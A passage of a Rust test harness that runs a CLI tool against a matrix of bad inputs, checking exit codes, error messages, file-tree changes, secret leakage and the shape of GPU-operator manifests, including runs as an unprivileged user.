            if let Some(mut r) = r {
                let _ = r.read_to_end(&mut v);
            }
            v
        })
    };
    let out_t = reader(
        child
            .stdout
            .take()
            .map(|r| Box::new(r) as Box<dyn Read + Send>),
    );
    let err_t = reader(
        child
            .stderr
            .take()
            .map(|r| Box::new(r) as Box<dyn Read + Send>),
    );
    let mut timed_out = false;
    let status = loop {
        if let Some(st) = child.try_wait().map_err(|e| e.to_string())? {
            break st;
        }
        if started.elapsed() > DEADLINE {
            timed_out = true;
            // SAFETY: signals the process group this run created.
            unsafe { libc::kill(-pid, libc::SIGKILL) };
            break child.wait().map_err(|e| e.to_string())?;
        }
        std::thread::sleep(Duration::from_millis(5));
    };
    let took = started.elapsed();
    // Anything left in the group (a child that kept a pipe open) goes too.
    // SAFETY: as above.
    unsafe { libc::kill(-pid, libc::SIGKILL) };
    if let Some(f) = feeder {
        let _ = f.join();
    }
    use std::os::unix::process::ExitStatusExt;
    Ok(Ran {
        code: status.code(),
        signal: status.signal(),
        stdout: out_t.join().unwrap(),
        stderr: err_t.join().unwrap(),
        took,
        timed_out,
    })
}

fn chown_tree(p: &Path) {
    let c = std::ffi::CString::new(p.to_str().unwrap()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    unsafe { libc::lchown(c.as_ptr(), 65534, 65534) };
    if let Ok(md) = std::fs::symlink_metadata(p) {
        if md.is_dir() {
            for e in std::fs::read_dir(p).unwrap().flatten() {
                chown_tree(&e.path());
            }
        }
    }
}

/// Runs one row once: the failures found, each a line, and how long the
/// command took.
fn run_row(row: &Row, unprivileged: bool, expect: (i32, &str)) -> (Vec<String>, Duration) {
    let dir = tempfile::tempdir().unwrap();
    let tmp = dir.path();
    setup(row, tmp);
    if unprivileged {
        std::fs::set_permissions(tmp, std::fs::Permissions::from_mode(0o755)).unwrap();
        chown_tree(tmp);
    }
    let args: Vec<String> = row.args.iter().map(|a| expand(a, tmp)).collect();
    let before = tree(tmp);
    let ran = match spawn(row, tmp, &args, unprivileged) {
        Ok(r) => r,
        Err(e) => return (vec![e], Duration::ZERO),
    };
    let after = tree(tmp);
    let stdout = String::from_utf8_lossy(&ran.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&ran.stderr).into_owned();
    let mut fails = Vec::new();
    if ran.timed_out {
        fails.push(format!("hung: killed after {:?}", ran.took));
    }
    if let Some(sig) = ran.signal {
        fails.push(format!("killed by signal {sig}"));
    }
    if stderr.contains("panicked") || matches!(ran.code, Some(101 | 134)) {
        fails.push("panicked".to_string());
    }
    if ran.code != Some(expect.0) {
        fails.push(format!("exit {:?}, want {}", ran.code, expect.0));
    }
    let want = expand(expect.1, tmp);
    if !matches!(row.io, Io::StderrClosed) && !stderr.contains(&want) {
        fails.push(format!("stderr lacks {want:?}"));
    }
    // Messages quote excerpts of the input, never all of it.
    if stderr.len() > 8 * 1024 {
        fails.push(format!("stderr is {} bytes", stderr.len()));
    }
    if expect.0 >= 2 && !stdout.is_empty() {
        fails.push("a failed run wrote to stdout".into());
    }
    if expect.0 >= 2 && !matches!(row.io, Io::StderrClosed) && stderr.trim().is_empty() {
        fails.push("a failed run said nothing".into());
    }
    // The tree is as it was, but where the row may write: no temporary
    // siblings left, nothing replaced or removed.
    let diff = tree_diff(&before, &after, row.writes);
    if diff.len() > 12 {
        fails.extend(diff[..12].iter().cloned());
        fails.push(format!(
            "... and {} more changes to the tree",
            diff.len() - 12
        ));
    } else {
        fails.extend(diff);
    }
    match row.check {
        Check::None => {}
        Check::NoStdout => {
            if !stdout.is_empty() {
                fails.push("stdout is not empty".into());
            }
        }
        Check::Stdout(s) => {
            if !stdout.contains(s) {
                fails.push(format!("stdout lacks {s:?}"));
            }
        }
        Check::NoSecret(secrets) => {
            let mut all = format!("{stdout}{stderr}");
            for (k, v) in &after {
                // What the run wrote: the files that are new or changed.
                if matches!(v, Entry::File(..)) && before.get(k) != Some(v) {
                    if let Ok(b) = std::fs::read(tmp.join(k)) {
                        all.push_str(&String::from_utf8_lossy(&b));
                    }
                }
            }
            for s in secrets {
                if all.contains(s) {
                    fails.push(format!("secret {s:?} came out"));
                }
            }
        }
        Check::Manifests(name) => fails.extend(check_manifests(&tmp.join("out"), name)),
        Check::Absent(files, text) => {
            for f in files {
                let p = tmp.join("out").join(f);
                match std::fs::read_to_string(&p) {
                    Ok(t) if t.contains(text) => fails.push(format!("out/{f} holds {text:?}")),
                    Ok(_) => {}
                    Err(e) => fails.push(format!("out/{f}: {e}")),
                }
            }
        }
        Check::Value(comp, pointer, want) => {
            let p = tmp.join("out").join(comp).join("values.yaml");
            let text = std::fs::read_to_string(&p).unwrap_or_default();
            let docs = documents(&text);
            if docs.len() != 1 {
                fails.push(format!("{comp}/values.yaml has {} documents", docs.len()));
            } else if docs[0].pointer(pointer) != Some(&serde_json::json!(want)) {
                fails.push(format!(
                    "{comp}/values.yaml {pointer} is {:?}",
                    docs[0].pointer(pointer)
                ));
            }
        }
    }
    if !fails.is_empty() {
        let cut = |s: &str| s.chars().take(600).collect::<String>();
        fails.push(format!(
            "  exit {:?} in {:?}\n  stderr: {}\n  stdout: {}",
            ran.code,
            ran.took,
            cut(&stderr),
            cut(&stdout)
        ));
    }
    (fails, ran.took)
}

/// The YAML documents of a text, nulls left out.
fn documents(text: &str) -> Vec<serde_json::Value> {
    use serde::Deserialize;
    serde_yaml_ng::Deserializer::from_str(text)
        .filter_map(|d| serde_json::Value::deserialize(d).ok())
        .filter(|v| !v.is_null())
        .collect()
}

/// Every manifest in `out` has the documents and kinds of the same manifest
/// in the bundle made without hostile values.
fn check_manifests(out: &Path, name: Option<&str>) -> Vec<String> {
    let mut fails = Vec::new();
    let reference = &shared().bundle;
    let shape = |p: &Path| -> Vec<String> {
        let text = std::fs::read_to_string(p).unwrap_or_default();
        documents(&text)
            .iter()
            .map(|d| d["kind"].as_str().unwrap_or("?").to_string())
            .collect()
    };
    let mut seen = 0;
    for (rel, e) in tree(reference) {
        if !matches!(e, Entry::File(..)) || !rel.contains("/manifests/") {
            continue;
        }
        seen += 1;
        let (want, got) = (shape(&reference.join(&rel)), shape(&out.join(&rel)));
        if want != got {
            fails.push(format!("{rel}: documents {got:?}, want {want:?}"));
        }
    }
    if seen == 0 {
        fails.push("no manifests to compare".into());
    }
    if let Some(name) = name {
        let p = out.join("gpu-operator/manifests/dcgm-exporter.yaml");
        let docs = documents(&std::fs::read_to_string(&p).unwrap_or_default());
        let got = docs.first().map(|d| d["metadata"]["name"].clone());
        if got != Some(serde_json::json!(name)) {
            fails.push(format!(
                "dcgm-exporter ConfigMap name is {got:?}, want {name:?}"
            ));
        }
    }
    fails
}

fn command_of(row: &Row) -> &'static str {
    const COMMANDS: &[&str] = &[
        "snapshot",
        "recipe",
        "query",
        "bundle",
        "verify",
        "diff",
        "completion",
        "validate",
    ];
    row.args
        .iter()
        .find(|a| COMMANDS.contains(a))
        .copied()
        .unwrap_or("(none)")
}

/// Whether a child can be started as uid/gid 65534 here.
fn can_drop_privileges() -> bool {
    let mut cmd = Command::new(&shared().bin);
    cmd.arg("--version")
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    // SAFETY: only async-signal-safe calls between fork and exec.
    unsafe {
        cmd.pre_exec(|| {
            if libc::setgroups(0, std::ptr::null()) != 0
                || libc::setgid(65534) != 0
                || libc::setuid(65534) != 0
            {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    cmd.status().is_ok_and(|s| s.success())
}

fn is_root() -> bool {
    // SAFETY: geteuid has no preconditions.
    unsafe { libc::geteuid() == 0 }
}

#[test]
fn the_bad_input_matrix() {
    let started = Instant::now();
    shared();
    let before_shared = tree(shared().dir.path());
    let root = is_root();
    let drop = root && can_drop_privileges();
    if root && !drop {
        eprintln!("note: this root cannot switch to uid 65534 (a user namespace without it?); the unprivileged expectations are not checked");
    }
    // Each job: (row, run unprivileged, expectation).
    let mut jobs: Vec<(&Row, bool, (i32, &str))> = Vec::new();
    for row in ROWS {
        match (root, row.root) {
            (true, Some(r)) => {
                jobs.push((row, false, r));
                if drop {
                    jobs.push((row, true, (row.code, row.msg)));
                }
            }
            _ => jobs.push((row, false, (row.code, row.msg))),
        }
    }
    let next = AtomicUsize::new(0);
    let failures = Mutex::new(Vec::new());
    let times = Mutex::new(Vec::new());
    let threads = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(2)
        .clamp(2, 6);
    std::thread::scope(|s| {
        for _ in 0..threads {
            s.spawn(|| loop {
                let i = next.fetch_add(1, Ordering::SeqCst);
                let Some(&(row, unprivileged, expect)) = jobs.get(i) else {
                    break;
                };
                let (fails, took) = run_row(row, unprivileged, expect);
                times.lock().unwrap().push((took, row.name));
                if !fails.is_empty() {
                    let who = if unprivileged { " (uid 65534)" } else { "" };
                    failures.lock().unwrap().push(format!(
                        "{}{who}:\n  {}",
                        row.name,
                        fails.join("\n  ")
                    ));
                }
            });
        }
    });
    let mut failures = failures.into_inner().unwrap();
    let after_shared = tree(shared().dir.path());
    if after_shared != before_shared {
        failures.push("the shared recipe and bundle were changed".into());
    }
    // The counts, per class and per command.
    let mut per_class: BTreeMap<String, usize> = BTreeMap::new();
    let mut per_command: BTreeMap<&str, usize> = BTreeMap::new();
    for row in ROWS {
        *per_class.entry(format!("{:?}", row.class)).or_default() += 1;
        *per_command.entry(command_of(row)).or_default() += 1;
    }
    eprintln!(
        "{} rows ({} runs) in {:?}; per class {per_class:?}; per command {per_command:?}",
        ROWS.len(),
        jobs.len(),
        started.elapsed()
    );
    let mut times = times.into_inner().unwrap();
    times.sort();
    eprintln!("slowest: {:?}", &times[times.len().saturating_sub(5)..]);
    failures.sort();
    assert!(
        failures.is_empty(),
        "{} of {} runs failed:\n{}",
        failures.len(),
        jobs.len(),
        failures.join("\n")
    );
}

/// The table itself: enough rows, every class and command covered, names
/// unique, and no row that cannot fail.
#[test]
fn the_matrix_covers_every_class_and_command() {
    assert!(ROWS.len() >= 150, "{} rows", ROWS.len());
    let mut names = std::collections::BTreeSet::new();
    for row in ROWS {
        assert!(names.insert(row.name), "row {} twice", row.name);
        assert!(!row.args.is_empty(), "{}: no arguments", row.name);
        if row.code >= 2 {
            assert!(
                !row.msg.is_empty() || matches!(row.io, Io::StderrClosed),
                "{}: a refusal must name its message",
                row.name
            );
        }
    }
    for class in [Writes, Secrets, Crash, Accepts] {
        assert!(
            ROWS.iter().filter(|r| r.class == class).count() >= 10,
            "{class:?}"
        );
    }
    for cmd in [
        "snapshot",
        "recipe",
        "query",
        "bundle",
        "verify",
        "diff",
        "completion",
        "validate",
    ] {
        assert!(
            ROWS.iter().any(|r| command_of(r) == cmd),
            "no row for {cmd}"
        );
    }
}
